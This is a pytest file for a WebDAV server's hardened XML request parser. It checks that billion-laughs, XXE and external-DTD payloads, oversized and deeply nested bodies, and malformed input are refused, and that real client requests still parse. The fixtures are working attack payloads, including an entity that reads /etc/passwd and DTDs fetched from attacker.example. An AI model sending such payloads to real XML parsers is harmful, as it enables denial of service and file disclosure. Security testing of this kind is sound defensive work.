"""Hardened request-body parsing (oxdav.dav.xml)."""

from __future__ import annotations

import pytest

from oxdav.dav.errors import DAVError
from oxdav.dav.xml import (
    XMLLimits,
    clark,
    dav_name,
    element_text,
    find_child,
    parse_body,
    parse_body_expecting,
    split_clark,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&lol9;</D:displayname></D:prop></D:propfind>"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE propfind [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&xxe;</D:displayname></D:prop></D:propfind>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE propfind SYSTEM "http://attacker.example/evil.dtd">
<D:propfind xmlns:D="DAV:"><D:allprop/></D:propfind>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<x/>"""

THUNDERBIRD = (
    b"<?xml version='1.0' encoding='UTF-8'?>\n"
    b"<D:propfind xmlns:D='DAV:' xmlns:CS='http://calendarserver.org/ns/'>"
    b"<D:prop><D:resourcetype/><CS:getctag/></D:prop></D:propfind>"
)

DAVX5 = (
    b'<?xml version="1.0" encoding="UTF-8" ?>'
    b'<propfind xmlns="DAV:" xmlns:n0="urn:ietf:params:xml:ns:caldav" '
    b'xmlns:n1="http://calendarserver.org/ns/">'
    b"<prop><resourcetype/><n0:supported-calendar-component-set/><n1:getctag/></prop>"
    b"</propfind>"
)


def _refused(body: bytes, limits: XMLLimits | None = None) -> DAVError:
    with pytest.raises(DAVError) as info:
        parse_body(body, limits) if limits else parse_body(body)
    assert info.value.status == 400
    return info.value


def test_billion_laughs_is_refused_before_expansion() -> None:
    err = _refused(BILLION_LAUGHS)
    assert "declarations" in (err.description or "")


def test_external_entity_to_local_file_is_refused() -> None:
    err = _refused(XXE_FILE)
    assert "root:" not in str(err)


def test_external_dtd_is_refused() -> None:
    _refused(EXTERNAL_DTD)


def test_parameter_entity_is_refused() -> None:
    _refused(PARAMETER_ENTITY)


def test_doctype_in_utf16_is_refused() -> None:
    _refused(XXE_FILE.replace(b'<?xml version="1.0"?>', b"").decode().encode("utf-16"))


def test_lowercase_doctype_is_refused() -> None:
    _refused(b"<!doctype x><x/>")


def test_oversized_body_is_refused() -> None:
    body = b"<D:prop xmlns:D='DAV:'>" + b" " * 2000 + b"</D:prop>"
    err = _refused(body, XMLLimits(max_bytes=1000))
    assert "larger" in (err.description or "")


def test_deep_nesting_is_refused() -> None:
    body = b"<a>" * 100 + b"</a>" * 100
    err = _refused(body, XMLLimits(max_depth=50))
    assert "deeper" in (err.description or "")


def test_very_deep_nesting_is_refused_with_default_limits() -> None:
    body = b"<a>" * 100_000
    err = _refused(body)
    assert "dep" in (err.description or "").lower()


def test_too_many_elements_are_refused() -> None:
    body = b"<a>" + b"<b/>" * 500 + b"</a>"
    err = _refused(body, XMLLimits(max_elements=100))
    assert "elements" in (err.description or "")


def test_malformed_xml_is_refused() -> None:
    err = _refused(b"<D:propfind xmlns:D='DAV:'><D:prop></D:propfind>")
    assert (err.description or "").startswith("malformed XML")


def test_undeclared_prefix_is_refused() -> None:
    _refused(b"<D:propfind><D:allprop/></D:propfind>")


def test_invalid_utf8_is_refused() -> None:
    _refused(b"<a>\xff\xfe</a>")


def test_empty_body_is_none() -> None:
    assert parse_body(b"") is None
    assert parse_body(b"  \r\n") is None


def test_thunderbird_single_quoted_namespaces_parse() -> None:
    root = parse_body(THUNDERBIRD)
    assert root is not None and root.tag == dav_name("propfind")
    prop = find_child(root, dav_name("prop"))
    assert prop is not None
    assert [c.tag for c in prop] == [
        dav_name("resourcetype"),
        "{http://calendarserver.org/ns/}getctag",
    ]


def test_davx5_generated_prefixes_parse() -> None:
    root = parse_body(DAVX5)
    assert root is not None
    prop = find_child(root, dav_name("prop"))
    assert prop is not None
    assert [c.tag for c in prop] == [
        dav_name("resourcetype"),
        "{urn:ietf:params:xml:ns:caldav}supported-calendar-component-set",
        "{http://calendarserver.org/ns/}getctag",
    ]


def test_comments_are_removed() -> None:
    root = parse_body(b"<a xmlns='DAV:'><!-- hi --><b>x</b></a>")
    assert root is not None
    assert [c.tag for c in root] == [dav_name("b")]


def test_body_larger_than_one_feed_chunk_parses() -> None:
    body = b"<a>" + b"<b>x</b>" * 20_000 + b"</a>"
    root = parse_body(body)
    assert root is not None and len(root) == 20_000


def test_parse_body_expecting_checks_root() -> None:
    with pytest.raises(DAVError) as info:
        parse_body_expecting(b"<x xmlns='DAV:'/>", dav_name("propfind"))
    assert info.value.status == 400


def test_parse_body_expecting_refuses_empty_body() -> None:
    with pytest.raises(DAVError):
        parse_body_expecting(b"", dav_name("propfind"))


def test_element_text_joins_and_strips() -> None:
    root = parse_body(b"<a> x <b>y</b> </a>")
    assert element_text(root) == "x y"
    assert element_text(None) == ""


def test_clark_round_trip() -> None:
    assert clark("DAV:", "prop") == "{DAV:}prop"
    assert split_clark("{DAV:}prop") == ("DAV:", "prop")
    assert split_clark("plain") == ("", "plain")


@pytest.mark.parametrize("bad", ["", "{DAV:", "{DAV:}", "a}b"])
def test_split_clark_rejects_malformed_names(bad: str) -> None:
    with pytest.raises(ValueError):
        split_clark(bad)
